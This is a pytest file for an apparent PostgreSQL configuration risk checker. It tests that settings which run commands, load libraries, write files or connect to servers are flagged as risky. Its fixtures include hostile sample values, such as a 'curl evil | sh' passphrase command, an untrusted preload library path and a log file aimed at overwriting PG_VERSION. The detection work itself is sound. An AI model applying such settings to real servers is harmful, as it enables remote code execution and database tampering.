"""What leads out of the database server is known by its kind, in every version."""

from __future__ import annotations

import pytest

from tempo_infra.inventory import parameters
from tempo_infra.inventory.outward import RISK, is_outward
from tempo_infra.inventory.validators import ACCEPTABLE

OUTWARD = {
    "archive_command": "cp %p /archive/%f",
    "archive_library": "basic_archive",
    "restore_command": "sh x",
    "archive_cleanup_command": "sh x",
    "recovery_end_command": "sh x",
    "ssl_passphrase_command": "curl evil | sh",
    "shared_preload_libraries": "pg_stat_statements, pg_cron",
    "session_preload_libraries": "/var/lib/postgresql/data/evil.so",
    "local_preload_libraries": "evil",
    "dynamic_library_path": "/tmp:$libdir",
    "jit_provider": "evil",
    "primary_conninfo": "host=evil",
    "log_directory": "/var/lib/postgresql/data/base",
    "log_filename": "PG_VERSION",
    "log_destination": "syslog",
    "search_path": "evil",
}


@pytest.mark.parametrize(("name", "text"), OUTWARD.items())
@pytest.mark.parametrize("version", [15, 17])
def test_what_runs_loads_or_sends_is_a_risk(version: int, name: str, text: str) -> None:
    assert is_outward(version, name, text)
    assert is_outward(version, name.upper(), text)


@pytest.mark.parametrize(
    "text",
    [
        "pg_stat_statements,",
        "$libdir/auto_explain",
        "../auto_explain",
        "auto_explain.so",
        '"auto_explain"',
        "a b",
    ],
)
def test_a_library_is_harmless_by_its_plain_name_only(text: str) -> None:
    assert is_outward(17, "shared_preload_libraries", text)
    assert not is_outward(17, "shared_preload_libraries", "pg_stat_statements, auto_explain")


@pytest.mark.parametrize(
    ("name", "text"),
    [
        *(("work_mem", "64MB"), ("wal_level", "logical"), ("archive_mode", "on"), ("ssl", "on")),
        *(
            ("log_line_prefix", "%m"),
            ("TimeZone", "Europe/Oslo"),
            ("lc_messages", "C"),
            ("ssl_cert_file", "x"),
        ),
        *(("archive_command", ""), ("log_destination", "stderr"), ("jit_provider", "llvmjit")),
        *(("pg_stat_statements.track", "all"), ("local_preload_libraries", "")),
    ],
)
def test_what_only_tunes_is_none(name: str, text: str) -> None:
    assert not is_outward(17, name, text)


@pytest.mark.parametrize("version", parameters.VERSIONS)
def test_no_text_is_harmless_by_oversight(version: int) -> None:
    """What names a command, a library, a file to write or a server is among them, and so is what is new."""
    texts = {name for name, one in parameters.postgresql(version).items() if one.kind == "string"}
    telling = (
        "command",
        "library",
        "libraries",
        "directory",
        "filename",
        "conninfo",
        "provider",
        "_path",
        "destination",
    )
    named = {name for name in texts if any(word in name for word in telling)}
    assert len(named) > 12
    assert [name for name in sorted(named) if not is_outward(version, name, "/x")] == []


def test_the_risk_can_be_accepted() -> None:
    assert RISK in ACCEPTABLE
